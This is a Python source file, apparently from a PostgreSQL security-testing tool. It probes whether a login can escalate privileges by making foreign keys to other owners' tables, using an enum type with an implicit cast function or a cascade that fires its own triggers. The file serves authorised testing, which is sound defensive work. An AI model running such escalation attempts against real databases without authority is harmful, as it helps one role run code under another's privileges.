"""A foreign key to somebody else's table, made so that its maker's own code is run by others."""

import asyncio
import time
from collections.abc import Iterator

from watertight.attack.arena import Arena
from watertight.attack.login import POLL_SECONDS
from watertight.attack.places import idle
from watertight.attack.probe import Observation, Outcome, Probe, refused
from watertight.servers.postgresql.attacks.attempts import (
    LOOKUP_SECONDS,
    Attempt,
    each_refused,
    identifier,
    literal,
    session_of,
    spelled,
)
from watertight.servers.postgresql.attacks.dialect import MAKE
from watertight.servers.postgresql.attacks.privileges import PROBE
from watertight.servers.postgresql.attacks.scope import Scope
from watertight.servers.postgresql.attacks.session import Session
from watertight.servers.postgresql.declaration import Kind, Target

TRIGGERS_AS_THEIR_CAUSE_SINCE = 180_000
"""From PostgreSQL 18 on, a trigger runs as whoever caused it, also where that was a cascade."""
SHORTLY = "SET lock_timeout = '200ms'"
"""A key that is being made keeps others from writing to the table that it refers to."""
IN_USE = "55P03"
NO_KEY = frozenset({"42804", "42830"})
"""datatype_mismatch, invalid_foreign_key: none can be made there, by whom ever."""


def probes(scope: Scope) -> Iterator[Probe]:
    """For a channel that may make tables, and let them refer to others'."""
    targets = [
        target
        for target in scope.attacked(Kind.TABLE)
        if scope.has(target, "references") or scope.columns(target, "references")
    ]
    if scope.creates and targets:
        yield MAKE.attack(
            "escalation.foreign-key",
            scope.login.channel,
            "a foreign key whose checks call its own functions, and one whose cascade fires its "
            "own triggers",
            _tried,
            scope,
            targets,
        )


async def _tried(arena: Arena, scope: Scope, targets: list[Target]) -> Observation:
    seen = refused("none of the tables has a column that a key can refer to")
    deadline = time.monotonic() + LOOKUP_SECONDS
    async with session_of(arena, scope.login) as session:
        await session.query(SHORTLY)
        ((version,),) = (await session.query("SHOW server_version_num")).rows
        cascades = int(str(version)) < TRIGGERS_AS_THEIR_CAUSE_SINCE
        for target in targets:
            for column, kind in await _keys(session, scope, target):
                for attempt in _attempts(min(scope.creates), target, column, kind, cascades):
                    while IN_USE in (seen := await each_refused(session, [attempt])).detail:
                        if time.monotonic() > deadline:
                            return seen
                        with idle():
                            await asyncio.sleep(POLL_SECONDS)
                    if seen.outcome is not Outcome.REFUSED:
                        return seen
    return seen


async def _keys(session: Session, scope: Scope, target: Target) -> list[tuple[str, str]]:
    """The columns that are unique, and may be referred to; with their types."""
    found = await session.query(
        "SELECT attname, format_type(atttypid, NULL) FROM pg_attribute a "
        "JOIN pg_class c ON c.oid = attrelid JOIN pg_namespace n ON n.oid = relnamespace "
        "JOIN pg_index i ON indrelid = c.oid AND indisunique AND indpred IS NULL "
        "AND indnkeyatts = 1 AND indkey[0] = attnum "
        f"WHERE nspname = {literal(target.schema)} AND relname = {literal(target.name)}"
    )
    some = scope.columns(target, "references")
    return [(str(name), str(kind)) for name, kind in found.rows if not some or name in some]


def _attempts(
    schema: str, target: Target, column: str, kind: str, cascades: bool
) -> Iterator[Attempt]:
    own = f"{identifier(schema)}.{PROBE}"
    refers = f"REFERENCES {spelled(target)} ({identifier(column)})"
    yield Attempt(
        f"CREATE TYPE {own} AS ENUM (); CREATE FUNCTION {own}_f({own}) RETURNS {kind} LANGUAGE sql "
        f"AS 'SELECT NULL::{kind}'; CREATE CAST ({own} AS {kind}) WITH FUNCTION {own}_f({own}) AS "
        f"IMPLICIT; CREATE TABLE {own}_t (a {own} {refers})",
        no=NO_KEY,
    )
    if cascades:
        yield Attempt(f"CREATE TABLE {own} (a {kind} {refers} ON DELETE CASCADE)", no=NO_KEY)
